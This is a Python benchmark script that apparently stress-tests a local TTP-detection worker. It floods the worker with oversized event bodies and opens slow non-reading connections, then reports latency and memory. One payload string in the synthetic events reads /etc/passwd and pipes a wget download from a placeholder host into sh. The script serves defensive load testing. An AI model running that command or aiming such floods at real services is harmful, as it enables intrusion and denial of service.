"""The worker under attack: a real worker process, hostile clients in another.

- `/healthz` latency (p50/p99/max) idle, then while attackers flood `POST /events` with
  bodies of thousands of events and amplifying events (tags copying 20 kB of evidence
  each, ~60 rules firing per event) as fast as the worker answers them.
- Worker RSS while 20 clients each send one amplifying request and never read the
  answer: before, peak, and after the write timeout dropped them.

Run: python -m bench.bench_attack [--quick]
"""

from __future__ import annotations

import argparse
import asyncio
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import httpx
import orjson

from bench.synthetic import percentile
from tests.swarm.http.serving import JSON, amplifying_event, copy_rules
from tests.waiting import poll

COMMAND = "python -m bench.bench_attack"
WRITE_TIMEOUT = 5.0
NON_READERS = 20


def flood_body(events: int) -> bytes:
    hostile = [amplifying_event(20_000, f"amp{i}") for i in range(10)]
    plain = [{"source_kind": "command", "source_id": f"c{i}",
              "payload": {"command_text": "cat /etc/passwd; uname -a; wget http://x/y.sh|sh"}}
             for i in range(events)]
    return orjson.dumps(hostile + plain)


# worker process -----------------------------------------------------------------

def serve(rules: Path) -> None:
    from decnet.swarm.http.limits import HttpLimits
    from decnet.swarm.worker import run_worker
    from decnet.ttp.store.impl.filesystem import FilesystemRuleStore

    limits = HttpLimits(write_timeout=WRITE_TIMEOUT)
    code = asyncio.run(run_worker(FilesystemRuleStore(rules), host="127.0.0.1", port=0,
                                  tail=None, limits=limits))
    raise SystemExit(code)


def start_worker(rules: Path) -> tuple[subprocess.Popen[bytes], str]:
    worker = subprocess.Popen([sys.executable, "-m", "bench.bench_attack", "--serve",
                               str(rules)], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    assert worker.stdout is not None
    while True:
        line = worker.stdout.readline()
        if not line:
            raise RuntimeError("the worker exited before listening")
        event = orjson.loads(line)
        if event["event"] == "listening":
            return worker, f"http://127.0.0.1:{event['port']}"


def rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return float("nan")


# attackers (their own process) -----------------------------------------------------

async def attack(url: str, seconds: float, clients: int, events: int) -> None:
    body = flood_body(events)
    deadline = time.monotonic() + seconds
    counts: dict[int, int] = {}

    async def one() -> None:
        async with httpx.AsyncClient(base_url=url, timeout=300) as client:
            while time.monotonic() < deadline:
                response = await client.post("/events", content=body, headers=JSON)
                counts[response.status_code] = counts.get(response.status_code, 0) + 1

    await asyncio.gather(*(one() for _ in range(clients)))
    print(orjson.dumps({str(k): v for k, v in counts.items()}).decode(), flush=True)


# measurements ----------------------------------------------------------------------

async def healthz_latencies(url: str, seconds: float) -> list[float]:
    samples: list[float] = []
    deadline = time.monotonic() + seconds
    async with httpx.AsyncClient(base_url=url, timeout=30) as client:
        while time.monotonic() < deadline:
            start = time.perf_counter()
            response = await client.get("/healthz")
            samples.append(time.perf_counter() - start)
            assert response.status_code == 200
            await asyncio.sleep(0.02)
    return samples


def latency_row(label: str, samples: list[float]) -> str:
    ms = [s * 1e3 for s in samples]
    return (f"| {label} | {len(ms):,} | {percentile(ms, 50):.1f} | {percentile(ms, 99):.1f} "
            f"| {max(ms):.1f} |")


async def evaluated(url: str) -> float:
    async with httpx.AsyncClient(base_url=url) as client:
        for line in (await client.get("/metrics")).text.splitlines():
            if line.startswith("decnet_ttp_events_evaluated_total "):
                return float(line.split()[1])
    return 0.0


async def flood(url: str, seconds: float, clients: int, events: int) -> tuple[
        list[float], dict[str, int], float]:
    before = await evaluated(url)
    attackers = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "bench.bench_attack", "--attack", url, "--seconds", str(seconds),
        "--clients", str(clients), "--events", str(events), stdout=asyncio.subprocess.PIPE)
    await asyncio.sleep(1.0)  # let the flood start
    samples = await healthz_latencies(url, seconds - 2)
    out, _ = await attackers.communicate()
    rate = (await evaluated(url) - before) / seconds
    return samples, orjson.loads(out.splitlines()[-1]), rate


def never_read(url: str, pid: int) -> tuple[float, float, float, int]:
    port = int(url.rsplit(":", 1)[1])
    body = orjson.dumps([amplifying_event(5_000, f"nr{i}") for i in range(40)])
    before = rss_mb(pid)
    sockets = []
    for _ in range(NON_READERS):
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.connect(("127.0.0.1", port))
        sock.sendall(b"POST /events HTTP/1.1\r\nHost: w\r\nContent-Type: application/json\r\n"
                     b"Content-Length: %d\r\n\r\n" % len(body) + body)
        sockets.append(sock)
    peak = before
    deadline = time.monotonic() + WRITE_TIMEOUT + 10
    while time.monotonic() < deadline:
        peak = max(peak, rss_mb(pid))
        time.sleep(0.1)
    text = httpx.get(f"{url}/metrics").text
    dropped = next(int(float(line.split()[1])) for line in text.splitlines()
                   if line.startswith('decnet_ttp_http_connections_closed_total'
                                      '{reason="write_timeout"}'))
    after = rss_mb(pid)
    for sock in sockets:
        sock.close()
    return before, peak, after, dropped


async def measure(quick: bool) -> None:
    seconds = 8.0 if quick else 20.0
    with tempfile.TemporaryDirectory() as tmp:
        rules = copy_rules(Path(tmp) / "rules")
        worker, url = start_worker(rules)
        try:
            async with httpx.AsyncClient(base_url=url) as client:
                async def ready() -> bool:
                    return (await client.get("/healthz")).status_code == 200

                await poll(ready, timeout=60, message="the worker to load its rules")
            idle = await healthz_latencies(url, 3.0 if quick else 6.0)
            flooded, statuses, rate = await flood(url, seconds, clients=8, events=3000)
            before, peak, after, dropped = never_read(url, worker.pid)
        finally:
            worker.terminate()
            worker.wait(30)
            shutil.rmtree(rules, ignore_errors=True)
    body_mb = len(flood_body(3000)) / 1e6
    print("### Under attack: the worker's HTTP door\n\n"
          f"`{COMMAND}` (a worker process with the shipped pack and "
          f"default limits but `--write-timeout {WRITE_TIMEOUT:g}`; attackers in another "
          "process)\n")
    print("`/healthz` latency, sequential requests 20 ms apart, ms:\n")
    print("| worker | requests | p50 | p99 | max |\n|---|---:|---:|---:|---:|")
    print(latency_row("idle", idle))
    print(latency_row(f"8 clients flooding `POST /events` ({body_mb:.1f} MB bodies: 3,000 "
                      "events + 10 amplifying ones)", flooded))
    print(f"\nDuring the flood the worker evaluated {rate:,.0f} events/s; answers to the "
          f"attackers by status: {statuses} (207: responses truncated at the 4 MiB cap; "
          "503: refused past `--max-pending`).\n")
    print(f"Worker RSS with {NON_READERS} clients that each send 40 amplifying events "
          "(~2,400 tags of 4 KiB of capped evidence, a response capped at 4 MiB) and never read: "
          f"{before:.0f} MB before, {peak:.0f} MB peak, {after:.0f} MB after the write "
          f"timeout dropped {dropped} of them.\n")


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--quick", action="store_true")
    parser.add_argument("--serve", type=Path)
    parser.add_argument("--attack")
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--clients", type=int, default=8)
    parser.add_argument("--events", type=int, default=3000)
    args = parser.parse_args()
    if args.serve:
        serve(args.serve)
    elif args.attack:
        asyncio.run(attack(args.attack, args.seconds, args.clients, args.events))
    else:
        asyncio.run(measure(args.quick))


if __name__ == "__main__":
    main()
